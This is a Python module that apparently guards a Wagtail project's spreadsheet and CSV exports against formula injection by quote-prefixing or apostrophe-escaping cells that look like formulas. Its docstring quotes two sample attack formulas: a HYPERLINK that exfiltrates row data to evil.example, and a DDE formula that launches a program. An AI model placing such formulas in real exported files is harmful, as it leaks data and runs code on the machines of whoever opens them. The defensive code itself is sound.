"""The one way the project writes a spreadsheet cell: text that a spreadsheet program would run as a formula is
written so that it is shown, never evaluated (CSV/formula injection).

A cell whose text starts with = + - @ (or their full-width forms, a tab or a line break, after any leading blanks)
is a formula to Excel, WPS and LibreOffice: `=HYPERLINK("http://evil.example/?x="&A1,"点击")` in an item's name
would send the row to another site, `=cmd|' /C calc'!A0` start a program. In .xlsx the text is kept as it is, as a
string cell with the quote prefix (so it reads back unchanged on re-import); in .csv, which has no cell types, it
gets a leading apostrophe, as OWASP recommends. Every .xlsx and .csv the project produces goes through here: the
power list (publish.exports), the import template, export and error report (imports), and Wagtail's listing and
report exports (`protect_wagtail_exports`, below).
"""

from openpyxl.cell import WriteOnlyCell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.lstrip(" \u3000").startswith(FORMULA_START)


def xlsx_cell(worksheet, value):
    """A write-only cell for `value`: formula-like text is a string cell with the quote prefix."""
    cell = WriteOnlyCell(worksheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl makes any text starting with = a formula
        if is_formula_like(value):
            cell.quotePrefix = True
    return cell


def set_cell(cell, value):
    """Set a cell of a normal (not write-only) worksheet the same way."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
        if is_formula_like(value):
            cell.quotePrefix = True
    return cell


def csv_value(value):
    """A value for a CSV cell: formula-like text behind an apostrophe."""
    if is_formula_like(value):
        return "'" + value
    return value


def protect_wagtail_exports():
    """Wagtail's listing and report exports (SpreadsheetExportMixin) write CSV cells raw; route every exported value
    through csv_value and every xlsx cell through the quote prefix. Idempotent."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "_tongban_safe_cells", False):
        return
    original_preprocess = SpreadsheetExportMixin.preprocess_field_value
    original_xlsx_row = SpreadsheetExportMixin.generate_xlsx_row

    def preprocess_field_value(self, field, value, export_format):
        value = original_preprocess(self, field, value, export_format)
        return csv_value(value) if export_format == self.FORMAT_CSV else value

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell in original_xlsx_row(self, worksheet, row_dict, date_format):
            if cell.data_type == "s" and is_formula_like(cell.value):
                cell.quotePrefix = True
            yield cell

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.generate_xlsx_row = generate_xlsx_row
    SpreadsheetExportMixin._tongban_safe_cells = True
